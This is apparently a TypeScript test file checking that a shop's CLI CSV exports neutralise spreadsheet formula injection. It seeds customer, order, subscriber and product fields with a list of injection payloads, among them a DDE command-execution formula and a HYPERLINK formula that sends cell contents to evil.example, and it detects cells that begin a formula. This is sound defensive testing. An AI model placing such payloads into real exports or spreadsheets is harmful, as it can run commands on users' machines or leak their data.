import { readCsv } from '@/cli/operator/support/csv';
import { engines } from '../support/database';
import { openOperator, type Ran } from '../support/operator';
import { openTestShop, type TestShop } from '../support/testServer';

/** What a spreadsheet would run, or send away, if it took the cell for a formula. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+9)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '=HYPERLINK("http://evil.example?"&A1,"here")',
  '","=1+1',
  '";=1+1',
  '＝1+1',
  '|=1+1',
];

/** What spreadsheets take for the beginning of a formula, spaces before it and wide forms too. */
const STARTS_A_FORMULA = /^[\s\u00a0\ufeff]*[=+\-@＝＋－＠\t\r]/;

describe.each(engines)('13 exports of what strangers typed, on the %s database', (engine) => {
  let shop: TestShop;
  let run: (words: readonly string[], answer?: boolean) => Promise<Ran>;
  beforeAll(async () => {
    shop = await openTestShop(engine);
    run = openOperator({ DATA_DIR: shop.settings.dataDir, DATABASE_URL: shop.settings.databaseUrl }, shop.now);
    for (const [index, text] of PAYLOADS.entries()) {
      const token = await shop.signUp(`person${index}@example.tl`, 'correct horse');
      // What the contract refuses or trims away a row from elsewhere may hold.
      await shop.db.transaction((tx) =>
        tx.updateTable('customers').set({ name: text }).where('email', '=', `person${index}@example.tl`).execute(),
      );
      await shop.call('POST /api/addtocart', { token, body: { itemId: 2, size: 'M' } });
      const body = { shippingAddress: 'Rua 1', paymentType: 'cod', paymentProof: '' };
      const { orderId } = (await shop.call('POST /api/create-transaction', { token, body })).json<{
        orderId: string;
      }>();
      await shop.db.transaction(async (tx) => {
        const changes = { shipping_address: text, customer_name: text, refund_reason: text };
        await tx.updateTable('orders').set(changes).where('id', '=', orderId).execute();
        await tx
          .insertInto('subscribers')
          .values({ email: `${text}@example.tl`, email_key: `${text}@example.tl`, created_at: index })
          .execute();
        await tx
          .updateTable('products')
          .set({ description: text, name: text })
          .where('id', '=', (index % 6) + 1)
          .execute();
      });
    }
  });
  afterAll(() => shop.close());

  test.each([
    ['orders export', ['orders', 'export', '--since', '1h']],
    ['subscribers export', ['subscribers', 'export']],
    ['products export', ['products', 'export']],
  ])('%s holds no cell that a spreadsheet would run, whichever separator it believes in', async (_name, words) => {
    const { exitCode, out } = await run(words);
    expect(exitCode).toBe(0);
    for (const separator of [',', ';', '\t']) {
      const cells = rawCells(out, separator);
      // A number of our own may be negative in no export: whatever begins so was typed by somebody.
      expect(cells.filter((cell) => STARTS_A_FORMULA.test(cell))).toEqual([]);
    }
    const cells = readCsv(out).flatMap((record) => record.cells);
    for (const text of words[0] === 'orders' ? PAYLOADS : []) expect(cells).toContain(text);
  });
});

/** The cells as a spreadsheet reads them that takes this separator: quotes bind, unless they stand inside a cell. */
const rawCells = (text: string, separator: string): readonly string[] => {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text.charAt(at);
    if (isQuoted && character === '"' && text.charAt(at + 1) === '"') {
      cell += '"';
      at += 1;
    } else if (character === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (!isQuoted && (character === separator || character === '\n')) {
      cells.push(cell);
      cell = '';
    } else if (character !== '\r' || isQuoted) cell += character;
  }
  return [...cells, cell];
};
